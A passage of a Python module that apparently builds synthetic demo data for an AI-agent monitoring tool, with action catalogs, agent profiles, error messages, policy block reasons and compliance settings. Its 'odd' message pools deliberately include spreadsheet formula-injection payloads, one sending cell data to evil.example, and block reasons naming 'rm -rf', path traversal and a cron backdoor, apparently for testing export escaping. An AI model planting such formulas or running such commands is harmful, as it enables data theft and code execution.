    _a("browser_navigate", "browser", 0.0002, 0.3, 1800, 0.6, 0.12, 0.04, "medium", 0.0, [
        {"url": "https://portal.partner.example/login"},
        {"url": "https://supplier.example.co.jp/注文"},
    ], {"status": 200}, "load_ms", 900),
    _a("browser_click", "browser", 0.0001, 0.3, 400, 0.6, 0.12, 0.04, "medium", 0.0, [
        {"selector": "button#submit", "page": "https://portal.partner.example/invoices"},
        {"selector": "a[href=\"/export\"]", "page": "https://portal.partner.example/reports"},
    ], {"navigated": True}),
    _a("translate_text", "browser", 0.0002, 0.4, 300, 0.5, 0.05, 0.00, "low", 0.0, [
        {"source": "de", "target": "en", "text": "Sehr geehrte Damen und Herren, vielen Dank für Ihre Anfrage."},
        {"source": "ja", "target": "en", "text": "東京の会議は延期されました"},
    ], {}, "characters", 300),
)

ACTION_INDEX = {a.name: i for i, a in enumerate(CATALOG)}
assert len(ACTION_INDEX) == len(CATALOG)


def demo_action_names() -> list[str]:
    """The names of the demo action types."""
    return [a.name for a in CATALOG]


PROFILES: dict[str, dict[str, float]] = {
    "assistant": {"llm_chat_claude": 10, "llm_completion": 8, "llm_embedding": 6, "vector_search": 6,
                  "web_search": 5, "http_request": 6, "file_read": 4, "send_email": 2,
                  "send_slack_message": 3, "translate_text": 2, "browser_navigate": 2,
                  "browser_click": 2, "create_calendar_event": 1, "llm_moderation": 3,
                  "pii_redact": 1, "database_query": 3, "cache_get": 3},
    "data": {"database_query": 30, "database_write": 8, "cache_get": 8, "cache_set": 4,
             "s3_get_object": 5, "s3_put_object": 4, "bigquery_job": 2, "csv_parse": 4,
             "data_export": 1, "vector_upsert": 3, "llm_embedding": 4, "database_migration": 0.3,
             "file_read": 3, "file_write": 2, "http_request": 4, "llm_classify": 2, "graphql_query": 2},
    "devops": {"shell_exec": 12, "python_exec": 5, "git_clone": 4, "git_commit": 4, "git_push": 3,
               "docker_build": 3, "k8s_deploy": 1.5, "terraform_apply": 0.8, "ci_trigger": 3,
               "file_read": 6, "file_write": 4, "file_delete": 1, "directory_list": 3,
               "http_request": 5, "secrets_read": 1.5, "llm_code_generation": 3, "database_query": 4,
               "llm_completion": 2},
    "support": {"ticket_create": 6, "ticket_update": 8, "crm_lookup": 8, "kb_search": 8,
                "llm_chat_claude": 8, "llm_classify": 5, "send_email": 6, "send_slack_message": 3,
                "database_query": 6, "http_request": 3, "llm_moderation": 2, "translate_text": 2,
                "pii_redact": 2, "refund_issue": 0.5},
    "research": {"web_search": 10, "web_scrape": 6, "http_request": 6, "llm_summarize": 8,
                 "llm_chat_gpt4": 4, "llm_chat_claude": 4, "llm_embedding": 4, "vector_search": 5,
                 "vector_upsert": 3, "pdf_extract": 3, "file_write": 2, "llm_rerank": 3,
                 "browser_navigate": 2},
    "codegen": {"llm_code_generation": 10, "llm_chat_gpt4": 6, "git_clone": 3, "git_commit": 4,
                "git_push": 2, "file_read": 8, "file_write": 5, "python_exec": 4, "shell_exec": 2,
                "ci_trigger": 2, "directory_list": 3},
    "finance": {"payment_transfer": 4, "invoice_create": 8, "refund_issue": 2, "ledger_reconcile": 5,
                "currency_convert": 4, "database_query": 10, "database_write": 4, "send_email": 4,
                "pdf_extract": 2, "llm_classify": 2, "http_request": 4, "crm_lookup": 2},
    "security": {"vulnerability_scan": 6, "secrets_read": 3, "iam_role_update": 1,
                 "user_permission_grant": 1, "database_query": 4, "http_request": 4, "file_read": 4,
                 "llm_classify": 3, "pii_redact": 3, "shell_exec": 2, "directory_list": 3},
    "sales": {"crm_lookup": 10, "crm_update": 6, "send_email": 8, "llm_chat_claude": 6,
              "llm_completion": 5, "web_search": 4, "create_calendar_event": 4, "send_sms": 1,
              "social_post": 1, "database_query": 3},
    "reporting": {"database_query": 12, "bigquery_job": 3, "llm_summarize": 6, "pdf_extract": 2,
                  "csv_parse": 4, "file_write": 4, "send_email": 3, "data_export": 2,
                  "s3_put_object": 2, "llm_chat_gpt4": 2, "ocr_document": 1},
    "health": {"ehr_record_read": 10, "lab_result_fetch": 8, "llm_chat_claude": 4, "llm_summarize": 4,
               "pii_redact": 4, "database_query": 6, "send_email": 1, "llm_vision": 2,
               "ocr_document": 3, "http_request": 3, "webhook_dispatch": 2, "send_sms": 1},
    # prod-agent-30 during the cost spike: a loop of large-context LLM calls
    "runaway": {"llm_chat_gpt4": 50, "llm_code_generation": 30, "llm_completion": 10,
                "file_read": 5, "python_exec": 5},
}
PROFILE_NAMES = tuple(PROFILES)
RUNAWAY_PROFILE = PROFILE_NAMES.index("runaway")
_used = {name for weights in PROFILES.values() for name in weights}
assert _used == set(ACTION_INDEX), sorted(_used ^ set(ACTION_INDEX))

# Actions hit by the incident (shared network / database infrastructure degraded).
INCIDENT_ACTIONS = ("database_query", "database_write", "http_request", "graphql_query",
                     "webhook_dispatch", "cache_get", "cache_set", "s3_get_object",
                     "vector_search", "crm_lookup", "web_search", "lab_result_fetch")
INCIDENT_ERR_MULT = 10.0
INCIDENT_ERR_CAP = 0.6

# --- messages -----------------------------------------------------------------------------

# Error messages, most common first (a pool's first messages are drawn more often). A pool
# is chosen by action name, else by category.
ERRORS: dict[str, list[str]] = {
    "llm": [
        "rate_limit_exceeded: Rate limit reached for requests per min (RPM): limit 500, used 500",
        "model overloaded, please retry",
        "HTTP 500 from api.openai.com",
        "context_length_exceeded: maximum context length is 128000 tokens, request had 131072",
        "HTTP 529 from api.anthropic.com: overloaded_error",
        "invalid JSON in function call arguments: Expecting ',' delimiter: line 1 column 58",
        "request timed out after 600000ms",
    ],
    "database_query": [
        "canceling statement due to statement timeout",
        "connection timeout after 30000ms",
        "too many connections for role \"agent_rw\"",
        "relation \"orders_archive\" does not exist",
        "column \"customer_email\" does not exist, did you mean \"email\"?",
        "could not serialize access due to concurrent update",
    ],
    "database_write": [
        "deadlock detected while waiting for ShareLock on transaction 48213",
        "duplicate key value violates unique constraint \"orders_pkey\"",
        "connection timeout after 30000ms",
        "could not serialize access due to concurrent update",
        "value too long for type character varying(64)",
    ],
    "database_migration": [
        "lock timeout: relation \"orders\" is locked by another transaction",
        "column \"refund_reason\" of relation \"orders\" already exists",
        "connection timeout after 30000ms",
    ],
    "cache_get": [
        "Redis timeout after 500ms",
        "ConnectionError: Error 111 connecting to redis.internal:6379. Connection refused.",
        "-ERR Redis OOM command not allowed when used memory > 'maxmemory'",
    ],
    "cache_set": [
        "-ERR Redis OOM command not allowed when used memory > 'maxmemory'",
        "Redis timeout after 500ms",
        "ConnectionError: Error 111 connecting to redis.internal:6379. Connection refused.",
    ],
    "s3_get_object": [
        "NoSuchKey: The specified key does not exist.",
        "SlowDown: Please reduce your request rate. (S3, status 503)",
        "AccessDenied: Access Denied",
    ],
    "s3_put_object": [
        "SlowDown: Please reduce your request rate. (S3, status 503)",
        "AccessDenied: Access Denied",
        "EntityTooLarge: Your proposed upload exceeds the maximum allowed size",
    ],
    "data": [
        "connection timeout after 30000ms",
        "Quota exceeded: Your project exceeded quota for concurrent queries",
        "PDFSyntaxError: No /Root object! - Is this really a PDF?",
        "OCR confidence 0.41 below threshold 0.80",
        "vector index 'kb-articles' is rebuilding, try again later",
        "csv.Error: field larger than field limit (131072)",
    ],
    "web": [
        "HTTP 503 from api.example.com",
        "HTTP 429 Too Many Requests from api.partner.example (retry after 30s)",
        "connection timeout after 30000ms",
        "HTTP 502 Bad Gateway from gateway.example.net",
        "SSL: CERTIFICATE_VERIFY_FAILED, certificate has expired",
        "DNS resolution failed for internal-api.example.com",
        "HTTP 404 from https://news.example.org/tech?page=2&sort=new",
    ],
    "send_email": [
        "SMTP 421 service not available, closing transmission channel",
        "SMTP 550 5.1.1 <bob@globex.example.com>: Recipient address rejected",
        "SMTP 552 message size exceeds fixed maximum message size",
    ],
    "send_slack_message": [
        "HTTP 429 from slack.com: ratelimited",
        "channel_not_found: #finance-eu",
        "@channel mention in #legal rejected by Slack API (restricted_action)",
    ],
    "send_sms": [
        "Twilio error 21610: recipient has unsubscribed",
        "+1 (555) 010-0199: phone number rejected by SMS gateway",
    ],
    "comms": [
        "HTTP 409 from calendar API: conflicting event",
        "HTTP 403 from api.linkedin.com: access token expired",
    ],
    "files": [
        "FileNotFoundError: [Errno 2] No such file or directory: '/srv/agent/workspace/reports/Q3, final.csv'",
        "PermissionError: [Errno 13] Permission denied: '/srv/agent/workspace/secrets.env'",
        "UnicodeDecodeError: 'utf-8' codec can't decode byte 0xe9 in position 1042: invalid continuation byte",
        "OSError: [Errno 122] Disk quota exceeded",
    ],
    "shell_exec": [
        "command exited with status 1",
        "command exited with status 127: bash: kubectl: command not found",
        "killed after exceeding 300000ms time limit",
        "Permission denied (publickey).",
    ],
    "python_exec": [
        "Traceback (most recent call last):\n  File \"/app/run.py\", line 12, in <module>\nKeyError: 'customer_id'",
        "ModuleNotFoundError: No module named 'openpyxl'",
        "killed after exceeding 300000ms time limit",
        "MemoryError",
    ],
    "devops": [
        "error: failed to push some refs to 'github.com:acme/orders-service.git'",
        "fatal: could not read from remote repository",
        "failed to solve: process \"/bin/sh -c pip install -r requirements.txt\" "
        "did not complete successfully: exit code: 1",
        "deployment \"orders\" exceeded its progress deadline",
        "ImagePullBackOff: registry.acme.example.com/orders:1.42.0 not found",
        "Error: Error acquiring the state lock: ConditionalCheckFailedException",
        "pipeline failed: 3 of 812 tests failed",
    ],
    "finance": [
        "card_declined: insufficient_funds",
        "HTTP 402 from api.stripe.com",
        "idempotency_key reused with different parameters",
        "currency mismatch: invoice in EUR, account in USD",
        "charge ch_3NqLmD2eZvKYlo2C has already been refunded",
        "12 unmatched entries, tolerance of 0.01 exceeded",
    ],
    "crm": [
        "HTTP 429 from acme.zendesk.com: rate limit, retry after 60s",
        "connection timeout after 30000ms",
        "INVALID_FIELD: No such column 'Region__c' on entity 'Contact'",
    ],
    "security": [
        "permission denied: token lacks scope \"vault:read\"",
        "HTTP 403 from iam.googleapis.com: caller does not have permission",
        "scan aborted: target unreachable",
    ],
    "health": [
        "HTTP 503 from fhir.umbrella.example.com",
        "HL7 FHIR OperationOutcome: patient record locked by another session",
        "connection timeout after 30000ms",
    ],
    "browser": [
        "TimeoutError: waiting for selector \"button#submit\" failed: timeout 30000ms exceeded",
        "net::ERR_NAME_NOT_RESOLVED at https://portal.partner.example/login",
        "page crashed",
    ],
}
MESSAGE_SKEW = 1.6  # pick = floor(count * u ** skew): earlier messages are more common

# Messages carried in the data on purpose: commas, quotes, newlines, non-ASCII text and
# leading characters that a spreadsheet would run as a formula. Any error may get one.
ODD_ERRORS: tuple[str, ...] = (
    "=HYPERLINK(\"http://evil.example/steal?d=\"&A1,\"Click to fix\")",
    "=cmd|' /C calc'!A0 (returned by tool output)",
    "+SUM(1+1)*cmd|' /C notepad'!A0",
    "@SUM(A1:A10) injected by upstream tool",
    "-2+3 evaluated unexpectedly in tool output",
    "naïve datetime passed where a timezone-aware one was expected (tz=Asia/Tokyo, 東京)",
    "tool returned malformed CSV: \"id\",\"name\"\n\"1\",\"O'Brien, Pat\"",
    "Zeichenkodierung fehlerhaft: Dateiname „Bericht_März.pdf“ enthält ungültige Zeichen",
    "\tunexpected leading tab in tool output",
    "JSON decode error: Unterminated string starting at: line 1 column 17 (char 16) — got '{\"a\": \"b'",
)
ODD_ERROR_RATE = 0.01

INCIDENT_ERRORS: tuple[str, ...] = (
    "connection timeout after 30000ms",
    "HTTP 503 from api.example.com",
    "connection timeout after 30000ms",
    "could not connect to server: Connection refused (db-primary.internal:5432)",
)
INCIDENT_MESSAGE_SHARE = 0.85

# Blocked reasons, most common first; chosen by action name, else by category.
BLOCKS: dict[str, list[str]] = {
    "llm": [
        "Prompt injection detected in tool output",
        "Monthly token budget for this agent exceeded",
        "Content policy: request classified as disallowed",
    ],
    "data": [
        "Query touches table payroll.salaries, which agents may not read",
        "Destination bucket is publicly readable",
    ],
    "data_export": [
        "Export of more than 10,000 rows containing PII requires approval",
        "Destination gs://partner-share/ is outside the organization",
    ],
    "database_migration": [
        "Schema migrations in production require a change ticket",
    ],
    "database_write": [
        "Writes to production databases require an approved change window",
        "UPDATE without WHERE clause refused",
    ],
    "web": [
        "Domain blocked by egress policy: pastebin.com",
        "URL is on the threat-intelligence blocklist",
        "robots.txt disallows crawling this path",
    ],
    "send_email": [
        "Recipient domain gmail.com is not on the allowlist",
        "PII detected in outbound message (credit card number)",
        "Attachment classified confidential cannot be sent externally",
    ],
    "social_post": [
        "Public posts require marketing approval",
    ],
    "comms": [
        "PII detected in outbound message (phone number)",
        "Messages to external channels are not allowed",
    ],
    "files": [
        "File operation outside the allowed workspace /srv/agent/workspace",
        "Path traversal attempt: ../../etc/passwd",
    ],
    "file_delete": [
        "Deleting files requires human approval",
        "File operation outside the allowed workspace /srv/agent/workspace",
    ],
    "shell_exec": [
        "Policy SEC-7: command matches denylist pattern 'rm -rf'",
        "sudo is not permitted for agents",
        "Policy SEC-7: outbound network access from shell is not allowed",
        "Command writes outside sandbox: /etc/cron.d/backdoor",
    ],
    "git_push": [
        "Force-push to protected branch main is not allowed",
        "Direct pushes to main require a reviewed pull request",
    ],
    "devops": [
        "Production deploys are frozen (change freeze until Monday 09:00 UTC)",
        "terraform apply on workspace prod requires a human approval",
        "Code execution sandbox: network access is not allowed",
    ],
    "payment_transfer": [
        "Amount $12,500.00 exceeds single-transfer limit of $10,000.00; requires human approval",
        "Beneficiary is not on the approved vendor list",
        "Transfers outside business hours require dual approval",
    ],
    "finance": [
        "Refunds above $500.00 require approval by an org_admin",
        "Invoice amount differs from the purchase order by more than 5%",
    ],
    "crm": [
        "Bulk export of contacts is not allowed for agents",
    ],
    "secrets_read": [
        "Agents may not read production secrets",
    ],
    "security": [
        "Permission grants require org_admin approval",
        "Privilege escalation attempt: role roles/owner",
    ],
    "health": [
        "PHI access requires an active treatment relationship",
        "Minimum necessary rule: bulk record access denied",
    ],
    "browser": [
        "Domain blocked by egress policy: file-sharing.example",
        "Form submission to an external site requires approval",
    ],
}
ODD_BLOCKS: tuple[str, ...] = (
    "=IMPORTXML(\"http://evil.example/x\",\"//a\") found in tool output; blocked",
    "Kill switch engaged by operator \"erin\", reason: runaway loop, see #incident-118",
    "Rate limit: agent exceeded 120 actions/min",
)
ODD_BLOCK_RATE = 0.02

# Messages that imply a duration (a timeout is as long as its limit).
MESSAGE_DURATION_MS = {
    "connection timeout after 30000ms": 30000,
    "request timed out after 600000ms": 600000,
    "killed after exceeding 300000ms time limit": 300000,
    "TimeoutError: waiting for selector \"button#submit\" failed: timeout 30000ms exceeded": 30000,
}

# --- compliance (Enterprise tier) ---------------------------------------------------------

CLASSIFICATIONS = ("public", "internal", "confidential", "restricted")
# category: (policy id, major version, classification probabilities, P(pii), frameworks,
#            retention years)
COMPLIANCE: dict[str, tuple[str, int, tuple[float, float, float, float], float, tuple[str, ...], int]] = {
    "llm": ("POL-AI-001", 3, (0.10, 0.50, 0.35, 0.05), 0.08, ("EU_AI_ACT", "SOC2"), 3),
    "data": ("POL-DATA-004", 2, (0.05, 0.35, 0.45, 0.15), 0.20, ("SOC2", "GDPR"), 5),
    "web": ("POL-NET-002", 1, (0.50, 0.40, 0.10, 0.00), 0.02, ("SOC2",), 1),
    "comms": ("POL-COMM-003", 2, (0.10, 0.50, 0.35, 0.05), 0.35, ("SOC2", "GDPR"), 3),
    "files": ("POL-DATA-004", 2, (0.10, 0.50, 0.30, 0.10), 0.10, ("SOC2",), 3),
    "devops": ("POL-SEC-007", 4, (0.00, 0.60, 0.35, 0.05), 0.01, ("SOC2", "ISO27001"), 3),
    "finance": ("POL-FIN-002", 5, (0.00, 0.10, 0.50, 0.40), 0.30, ("SOC2", "SOX", "PCI_DSS"), 7),
    "crm": ("POL-COMM-003", 2, (0.05, 0.40, 0.50, 0.05), 0.50, ("SOC2", "GDPR"), 3),
    "security": ("POL-SEC-007", 4, (0.00, 0.20, 0.50, 0.30), 0.02, ("SOC2", "ISO27001"), 7),
    "health": ("POL-PHI-001", 1, (0.00, 0.00, 0.20, 0.80), 0.90, ("HIPAA", "SOC2"), 6),
    "browser": ("POL-NET-002", 1, (0.40, 0.50, 0.10, 0.00), 0.03, ("SOC2",), 1),
}
REVIEWERS = ("bob", "erin", "acme-compliance-team")
DECISIONS = ("allow", "deny", "review")
